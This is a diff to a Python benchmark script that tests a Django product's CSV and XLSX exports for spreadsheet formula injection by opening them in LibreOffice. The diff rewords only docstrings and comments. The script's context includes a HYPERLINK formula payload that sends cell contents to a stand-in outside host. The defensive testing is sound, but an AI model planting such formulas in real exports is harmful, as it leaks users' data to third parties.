@@ -1,10 +1,10 @@
-"""Open every CSV and XLSX that leaves the product in LibreOffice and count the formulas that are alive.
+"""Open every CSV and XLSX that the product writes in LibreOffice and count the formulas that it evaluates.
 
     .venv/bin/python bench/spreadsheets.py        (needs LibreOffice: apt-get install libreoffice-calc)
 
-Every text of a small study is a formula: names, keys, criteria, tags, notes, answers. Every endpoint that answers with
-a table is asked, and every command that writes one. LibreOffice is told to evaluate formulas in CSV, which it does not
-do by itself; a file that no writer of ours has made proves that it can. JSON must hold the texts as they are.
+Every text of a small study is a formula: names, keys, criteria, tags, notes, answers. Every endpoint and every command
+that gives a table is called. LibreOffice is told to evaluate formulas in CSV, which it does not do by itself; a file
+from none of the product's writers proves that it does. JSON must hold the texts unchanged.
 """
 
 from __future__ import annotations
@@ -29,7 +29,7 @@ FORMULA = '=HYPERLINK("http://outside.example/?"&A1;"open")'
 # contents, no export of formulas, keep blanks, first sheet, evaluate formulas
 EVALUATING = "CSV:44,34,76,1,,0,false,true,false,false,false,0,true"
 ALIVE = re.compile(rb'table:formula="')
-# Texts that programs compare: names of states and kinds, addresses, digests, parts of URLs.
+# Texts that programs compare, and that stay as they are: names of states and kinds, addresses, digests, parts of URLs.
 NOT_WORDS = re.compile(
     r"(^|_)(id|slug|email|username|password|status|kind|digest|sha256|hash|language|stage|outcome|setting|track|purpose|"
     r"scope|code|version|role|token|key_hash|url|file|method|rule|state|mode|provenance|country|timezone|ending|part)$"
@@ -112,7 +112,7 @@ def collect(folder: Path) -> None:
 
 
 def a_draft(world: Any) -> None:
-    """A draft of formulas: what stands in one is no column of its own."""
+    """Save a draft made of formulas: its items are inside JSON, not in columns of their own."""
     from django.utils import timezone
 
     from rubrics.editor.drafting import DraftItem
@@ -128,7 +128,7 @@ def a_draft(world: Any) -> None:
 
 
 def poison() -> None:
-    """Make a formula of every text that a person or a file may have written, past the triggers that forbid it."""
+    """Replace every text that a person or a file may have written by a formula, with triggers disabled."""
     from django.apps import apps
     from django.contrib.postgres.fields import ArrayField
     from django.db import connection, models
@@ -152,7 +152,7 @@ def poison() -> None:
 
 
 def again(world: Any) -> str:
-    """Compute the reports once more, since what is stored holds the names of before; the first rater's name."""
+    """Compute the reports again, since the stored ones hold the earlier names; returns the first rater's name."""
     from django.utils import timezone
 
     from agreement import services
@@ -174,7 +174,7 @@ def again(world: Any) -> str:
 
 
 def commands(folder: Path, world: Any, rater: str) -> None:
-    """What the command line writes."""
+    """Write what the commands export."""
     from django.core.management import call_command
 
     judge = world.judge.__class__.objects.get(pk=world.judge.pk).name
@@ -193,7 +193,7 @@ def commands(folder: Path, world: Any, rater: str) -> None:
 
 
 def unpack(data: bytes, folder: Path, name: str) -> None:
-    """Take the tables out of an archive of ours."""
+    """Extract the tables of an archive that the product wrote."""
     if not zipfile.is_zipfile(io.BytesIO(data)):
         print(f"{name}: no archive", file=sys.stderr)
         return
